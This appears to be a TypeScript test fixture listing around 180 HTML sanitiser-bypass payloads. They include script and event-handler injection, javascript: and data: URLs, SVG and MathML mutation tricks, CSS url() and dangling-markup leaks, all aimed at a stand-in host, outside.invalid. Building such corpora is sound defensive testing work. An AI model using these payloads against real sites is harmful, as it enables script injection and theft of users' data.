/**
 * HTML that has got, or is made to get, past sanitisers: after the kinds of the public collections, written anew. Each
 * wants to run `SCRIPT`, or to load or to open something at `OUTSIDE`.
 */
export interface Bypass {
  readonly name: string
  readonly html: string
}

/** The host that no browser may contact. */
export const OUTSIDE = 'https://outside.invalid'

/** What a script would do, if it ran: `window.hit` is set in each window that it reaches, and the host is contacted. */
export const SCRIPT = `window.hit=1;try{parent.hit=1;top.hit=1}catch(e){}new Image().src='${OUTSIDE}/hit'`

/** The same as one expression without quotes, blanks or angle brackets. */
const CALL = 'window.hit=parent.hit=1'

const of = (name: string, html: string): Bypass => ({ name, html })

export const BYPASSES: readonly Bypass[] = [
  // Scripts, plainly and in disguise.
  of('script element', `<script>${SCRIPT}</script>`),
  of('script in capitals with a blank in its end', `<ScRiPt >${SCRIPT}</sCrIpT\t>`),
  of('script with a slash for a blank', `<script/x>${SCRIPT}</script>`),
  of('script from outside', `<script src="${OUTSIDE}/a.js"></script>`),
  of('script in a script', `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`),
  of('script that never ends', `<script>${SCRIPT}`),
  of('script after an open angle bracket', `<<script>${SCRIPT}//<</script>`),
  of('module script', `<script type=module>import '${OUTSIDE}/m.js'</script>`),
  of(
    'speculation rules',
    `<script type="speculationrules">{"prefetch":[{"urls":["${OUTSIDE}/s"]}]}</script>`,
  ),
  of('import map', `<script type="importmap">{"imports":{"a":"${OUTSIDE}/a.js"}}</script>`),
  of('NUL within a name', `<scr\0ipt>${SCRIPT}</scr\0ipt>`),
  of('end tag with attributes', `<script>1</script x>${SCRIPT}</script>`),

  // Attributes that are events.
  of('image with onerror', `<img src=x onerror="${SCRIPT}">`),
  of('image with onerror and no blanks', `<img/src=x/onerror=${CALL}>`),
  of('onerror after a back-tick', `<img src=\`x\` onerror=\`${CALL}\`>`),
  of('onerror behind a form feed', `<img\fsrc=x\fonerror=${CALL}>`),
  of('onerror as entities', `<img src=x onerror="&#119;indow.hit=1">`),
  of('quote closed early', `<img alt="</p title='x>" src=x onerror=${CALL}>`),
  of('body onload', `<body onload=${CALL}>`),
  of('onpageshow', `<body onpageshow=${CALL}>`),
  of('details ontoggle', `<details open ontoggle=${CALL}>x</details>`),
  of('autofocus and onfocus', `<input autofocus onfocus=${CALL}>`),
  of('contenteditable and onfocus', `<div contenteditable autofocus tabindex=1 onfocus=${CALL}>x</div>`),
  of(
    'animation and its event',
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${CALL}>x`,
  ),
  of('transition and its event', `<p id=x style="transition:color 1s" ontransitionend=${CALL}>x`),
  of('marquee onstart', `<marquee onstart=${CALL}>x</marquee>`),
  of('video source onerror', `<video><source onerror=${CALL}></video>`),
  of('audio onerror', `<audio src=x onerror=${CALL}>`),
  of('popover ontoggle', `<button popovertarget=x>x</button><p id=x popover onbeforetoggle=${CALL}>x`),
  of('scrollend', `<p style="overflow:auto" onscrollend=${CALL}>x`),
  of('duplicate attributes', `<a href="#" href="javascript:${CALL}" onclick=${CALL}>x</a>`),
  of('unicode quotes around an event', `<p title=\u201Cx\u201D onmouseover=\u201C${CALL}\u201D>x`),
  of('accesskey and onclick', `<a accesskey=x onclick=${CALL}>x</a>`),

  // Addresses that are scripts.
  of('javascript: link', `<a href="javascript:${CALL}">x</a>`),
  of('javascript: with a tab in it', `<a href="java\tscript:${CALL}">x</a>`),
  of('javascript: with a line feed as an entity', `<a href="java&#10;script:${CALL}">x</a>`),
  of(
    'javascript: all in entities',
    `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${CALL}">x</a>`,
  ),
  of('javascript: with a named entity', `<a href="javascript&colon;${CALL}">x</a>`),
  of('javascript: behind a control character', `<a href="\x01javascript:${CALL}">x</a>`),
  of('javascript: behind a no-break space', `<a href="\u00A0javascript:${CALL}">x</a>`),
  of('vbscript', `<a href="vbscript:MsgBox(1)">x</a>`),
  of('data: document', `<a href="data:text/html,<script>${CALL}</script>">x</a>`),
  of('data: document in a frame', `<iframe src="data:text/html,<script>${CALL}</script>"></iframe>`),
  of('iframe srcdoc', `<iframe srcdoc="<script>${CALL}</script>"></iframe>`),
  of('iframe with a javascript: address', `<iframe src="javascript:${CALL}"></iframe>`),
  of('frameset', `<frameset><frame src="javascript:${CALL}"></frameset>`),
  of('object', `<object data="${OUTSIDE}/o"></object>`),
  of('object with data:', `<object data="data:text/html,<script>${CALL}</script>"></object>`),
  of('embed', `<embed src="${OUTSIDE}/e">`),
  of('applet', `<applet code=x codebase="${OUTSIDE}/"></applet>`),
  of('portal', `<portal src="${OUTSIDE}/p"></portal>`),
  of('image map', `<img usemap="#m" src=x><map name=m><area href="javascript:${CALL}" shape=default></map>`),

  // Foreign namespaces and mutation.
  of('svg onload', `<svg onload=${CALL}>`),
  of('svg with a script', `<svg><script>${CALL}</script></svg>`),
  of('svg script with entities', `<svg><script>&#119;indow.hit=1</script></svg>`),
  of('svg script by href', `<svg><script href="${OUTSIDE}/s.js"/></svg>`),
  of(
    'svg animate to a script',
    `<svg><a><animate attributeName=href values="javascript:${CALL}"/><text>x</text></a></svg>`,
  ),
  of('svg set on an event', `<svg><set attributeName=onload to=${CALL} /></svg>`),
  of('svg use from outside', `<svg><use href="${OUTSIDE}/u.svg#x"/></svg>`),
  of('svg image', `<svg><image href="${OUTSIDE}/i.png"/></svg>`),
  of('svg feImage', `<svg><filter><feImage href="${OUTSIDE}/f.png"/></filter></svg>`),
  of(
    'svg foreignObject',
    `<svg><foreignObject><iframe srcdoc="<script>${CALL}</script>"></iframe></foreignObject></svg>`,
  ),
  of('svg style that ends in an attribute', `<svg><style><a title="</style><img src=x onerror=${CALL}>">`),
  of('svg with p in it', `<svg><p><style><g title="</style><img src=x onerror=${CALL}>">`),
  of(
    'svg desc and title',
    `<svg><desc><style><a id="</style><img src=x onerror=${CALL}>"></a></style></desc></svg>`,
  ),
  of(
    'math and mglyph',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  ),
  of(
    'math and malignmark',
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  ),
  of('math href', `<math href="javascript:${CALL}"><mi>x</mi></math>`),
  of(
    'math annotation-xml',
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${CALL}></style></annotation-xml></math>`,
  ),
  of(
    'math maction',
    `<math><maction actiontype="statusline#${OUTSIDE}" xlink:href="javascript:${CALL}">x</maction></math>`,
  ),
  of(
    'namespace confusion by a table',
    `<table><svg><desc><table><style><img src=x onerror=${CALL}></style></table></desc></svg></table>`,
  ),
  of('xmp', `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`),
  of('xmp within svg', `<svg></p><xmp><a id="</xmp><img src=x onerror=${CALL}>">`),
  of('noscript', `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`),
  of('noembed', `<noembed><p title="</noembed><img src=x onerror=${CALL}>"></noembed>`),
  of('noframes', `<noframes><p title="</noframes><img src=x onerror=${CALL}>"></noframes>`),
  of('plaintext', `<plaintext><img src=x onerror=${CALL}>`),
  of('listing', `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`),
  of('textarea', `<textarea><img title="</textarea><img src=x onerror=${CALL}>"></textarea>`),
  of('title', `<title><a title="</title><img src=x onerror=${CALL}>"></title>`),
  of('template', `<template><img src=x onerror=${CALL}></template>`),
  of(
    'template with a shadow root',
    `<div><template shadowrootmode=open><img src=x onerror=${CALL}></template></div>`,
  ),
  of('select', `<select><style></select><img src=x onerror=${CALL}></style>`),
  of('option and svg', `<select><option><svg><style></select><img src=x onerror=${CALL}>`),
  of('comment that ends at once', `<!--><img src=x onerror=${CALL}>-->`),
  of('comment that ends with a bang', `<!--x--!><img src=x onerror=${CALL}>-->`),
  of('comment within a comment', `<!--<!-- --><img src=x onerror=${CALL}>-->`),
  of('conditional comment', `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`),
  of('bogus comment', `<?xml version="1.0"><img src=x onerror=${CALL}>?>`),
  of('end tag as a comment', `</ <img src=x onerror=${CALL}>`),
  of('CDATA', `<![CDATA[><img src=x onerror=${CALL}>]]>`),
  of('CDATA within svg', `<svg><![CDATA[><img src=x onerror=${CALL}>]]></svg>`),
  of('doctype with an entity', `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${CALL}>">]>&y;`),
  of(
    'nested forms',
    `<form id=a><div></form><form id=b><input name=b></div></form><img src=x onerror=${CALL}>`,
  ),
  of('deep nesting', `${'<div>'.repeat(600)}<svg><style><a title="</style><img src=x onerror=${CALL}>">`),
  of('text that looks escaped', `&lt;img src=x onerror=${CALL}&gt;&amp;lt;script&amp;gt;`),
  of(
    'attribute that ends its element after reading it again',
    `<a title="&quot;&gt;&lt;img src=x onerror=${CALL}&gt;">x</a>`,
  ),
  of('back-ticks in alt', `<img alt="\`\`onerror=${CALL} src=x">`),
  of('UTF-7', `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`),
  of('half a surrogate pair', `<img src=x\uD800 onerror=${CALL}>`),
  of(
    'XML namespace of our own',
    `<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${CALL}</x:script></html>`,
  ),
  of('custom element', `<x-y onclick=${CALL} is=script>x</x-y>`),
  of('slot and part', `<slot onslotchange=${CALL}><p slot=x>x</slot>`),

  // What loads something without a script.
  of('remote image', `<img src="${OUTSIDE}/i.png">`),
  of('remote image without a scheme', `<img src="//outside.invalid/i.png">`),
  of('remote image with backslashes', `<img src="\\\\outside.invalid\\i.png">`),
  of('remote image with one slash', `<img src="https:/outside.invalid/i.png">`),
  of('srcset', `<img srcset="${OUTSIDE}/1.png 1x, ${OUTSIDE}/2.png 2x">`),
  of('picture', `<picture><source srcset="${OUTSIDE}/p.webp"><img src="${OUTSIDE}/p.png"></picture>`),
  of('image by its old name', `<image src="${OUTSIDE}/i.png">`),
  of('lowsrc and dynsrc', `<img lowsrc="${OUTSIDE}/l.png" dynsrc="${OUTSIDE}/d.avi">`),
  of('longdesc', `<img src=x longdesc="${OUTSIDE}/l">`),
  of(
    'background attribute',
    `<table background="${OUTSIDE}/b.png"><td background="${OUTSIDE}/c.png">x</table>`,
  ),
  of(
    'data: svg in an image',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${OUTSIDE}/d.png'/></svg>">`,
  ),
  of(
    'data: svg that says it is png',
    `<img src="data:image/png;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`).toString('base64')}">`,
  ),
  of('video poster', `<video poster="${OUTSIDE}/v.png" src="${OUTSIDE}/v.mp4" autoplay></video>`),
  of('audio and track', `<audio src="${OUTSIDE}/a.ogg" autoplay><track src="${OUTSIDE}/t.vtt"></audio>`),
  of('input image', `<input type=image src="${OUTSIDE}/i.png">`),
  of('link stylesheet', `<link rel=stylesheet href="${OUTSIDE}/s.css">`),
  of(
    'link prefetch',
    `<link rel=prefetch href="${OUTSIDE}/p"><link rel=dns-prefetch href="${OUTSIDE}"><link rel=preconnect href="${OUTSIDE}">`,
  ),
  of('link icon', `<link rel=icon href="${OUTSIDE}/f.ico">`),
  of('link manifest', `<link rel=manifest href="${OUTSIDE}/m.json">`),
  of('meta refresh', `<meta http-equiv=refresh content="0;url=${OUTSIDE}/r">`),
  of('meta refresh to a script', `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`),
  of(
    'meta that changes the policy',
    `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"><script>${CALL}</script>`,
  ),
  of('meta that changes the charset', `<meta charset="utf-7">+ADw-script+AD4-${CALL}+ADw-/script+AD4-`),
  of('base', `<base href="${OUTSIDE}/"><img src="i.png"><a href="a">x</a>`),
  of('base target', `<base target="_top"><a href="${OUTSIDE}">x</a>`),
  of('ping', `<a href="${OUTSIDE}/a" ping="${OUTSIDE}/p">x</a>`),
  of('link with attribution', `<a href="${OUTSIDE}" attributionsrc="${OUTSIDE}/t">x</a>`),
  of('dangling image', `<img src='${OUTSIDE}/?`),
  of('dangling textarea', `<form action="${OUTSIDE}/f"><textarea name=x>secret`),
  of('dangling style', `<style>@import '${OUTSIDE}/?`),
  of(
    'form that is sent by itself',
    `<form action="${OUTSIDE}/f" id=f><input name=x value=y></form><button form=f formaction="javascript:${CALL}">x</button>`,
  ),
  of('isindex', `<isindex action="${OUTSIDE}" prompt=x>`),

  // Styles.
  of('style with @import', `<style>@import url(${OUTSIDE}/s.css);</style>`),
  of('style with an import in quotes', `<style>@import '${OUTSIDE}/s.css';</style>`),
  of(
    'style with a font',
    `<style>@font-face{font-family:x;src:url(${OUTSIDE}/f.woff)}p{font-family:x}</style><p>x`,
  ),
  of(
    'style that reads attributes',
    `<style>input[value^=a]{background:url(${OUTSIDE}/a)}</style><input value=abc>`,
  ),
  of('background url()', `<p style="background:url(${OUTSIDE}/b.png)">x`),
  of('background-image with quotes', `<p style="background-image:url('${OUTSIDE}/b.png')">x`),
  of('url() with an escape', `<p style="background:u\\72l(${OUTSIDE}/b.png)">x`),
  of('url() with a comment', `<p style="background:ur/**/l(${OUTSIDE}/b.png)">x`),
  of('url() in entities', `<p style="background:&#117;rl(${OUTSIDE}/b.png)">x`),
  of('url() in wide letters', `<p style="background:\uFF55\uFF52\uFF4C(${OUTSIDE}/b.png)">x`),
  of('image-set()', `<p style="background-image:image-set('${OUTSIDE}/i.png' 1x)">x`),
  of(
    'image() and cross-fade()',
    `<p style="background:cross-fade(url(${OUTSIDE}/a),image('${OUTSIDE}/b'))">x`,
  ),
  of('list-style with an address', `<ul style="list-style:url(${OUTSIDE}/l.png)"><li>x</ul>`),
  of(
    'content, cursor and border-image',
    `<p style="content:url(${OUTSIDE}/c);cursor:url(${OUTSIDE}/d),auto;border-image:url(${OUTSIDE}/e)">x`,
  ),
  of('variable with an address', `<p style="--x:url(${OUTSIDE}/v);background:var(--x)">x`),
  of('src() and attr()', `<p data-x="${OUTSIDE}/a" style="background:src(attr(data-x))">x`),
  of(
    'filter and mask',
    `<p style="filter:url(${OUTSIDE}/f.svg#x);mask:url(${OUTSIDE}/m.svg#x);clip-path:url(${OUTSIDE}/c#x)">x`,
  ),
  of('expression()', `<p style="width:expression(${CALL})">x`),
  of(
    'binding and behaviour',
    `<p style="-moz-binding:url(${OUTSIDE}/b.xml#x);behavior:url(${OUTSIDE}/b.htc)">x`,
  ),
  of('style that closes its attribute', `<p style='color:red"><img src=x onerror=${CALL}>'>x`),
  of('font name that is an element', `<p style="font-family:'</style><img src=x onerror=${CALL}>'">x`),
  of('box over everything', `<a href="${OUTSIDE}" style="position:fixed;inset:0;z-index:9;opacity:0">x</a>`),
]
